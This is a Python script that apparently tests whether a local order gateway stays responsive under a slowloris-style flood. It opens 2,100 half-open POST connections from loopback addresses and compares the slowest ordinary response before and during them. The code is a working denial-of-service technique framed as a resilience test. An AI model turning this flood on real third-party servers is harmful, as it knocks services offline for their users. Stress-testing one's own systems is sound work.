"""2 100 half-open POSTs against a running gateway, and what a partner waits beside them: `half_open.py URL`.

Each announces a body and sends one byte of it. They come from addresses of the loopback net, so the gateway
must be on this machine. Prints the slowest of 50 answers before and during the attack; 1 when one took above
a second.
"""

from __future__ import annotations

import asyncio
import sys
import time
from typing import Final
from urllib.parse import urlsplit

ATTACKERS: Final = 2_100
ADDRESSES: Final = 50
ASKED: Final = 50
SLOW_S: Final = 1.0
HEAD: Final = b"POST /order/request HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
QUERY: Final = "/order/query?channel_no=test&request_no=none"


async def half_open(host: str, port: int, number: int) -> asyncio.StreamWriter | None:
    """One attacker; None when the gateway closed it at once."""
    source = (f"127.0.0.{2 + number % ADDRESSES}", 0)
    try:
        _, writer = await asyncio.open_connection(host, port, local_addr=source)
    except OSError:
        return None
    writer.write(HEAD + b"Content-Length: 100\r\n\r\n{")
    return writer


async def slowest_s(host: str, port: int) -> float:
    """The longest of some ordinary calls, connecting included."""
    longest = 0.0
    for _ in range(ASKED):
        began = time.monotonic()
        reader, writer = await asyncio.open_connection(host, port)
        writer.write(f"GET {QUERY} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
        answer = await reader.read()
        if not answer.startswith(b"HTTP/1.1"):
            return float("inf")
        writer.close()
        longest = max(longest, time.monotonic() - began)
    return longest


async def attack(url: str) -> int:
    """Before, during; the exit code."""
    parts = urlsplit(url)
    host, port = parts.hostname or "127.0.0.1", parts.port or 8600
    print(f"before: slowest of {ASKED} answers {await slowest_s(host, port):.3f} s")
    opened = [await half_open(host, port, number) for number in range(ATTACKERS)]
    during = await slowest_s(host, port)
    print(f"beside {sum(one is not None for one in opened)} half-open POSTs: {during:.3f} s")
    for one in opened:
        if one is not None:
            one.transport.abort()
    return int(during > SLOW_S)


if __name__ == "__main__":
    sys.exit(asyncio.run(attack(sys.argv[1])))
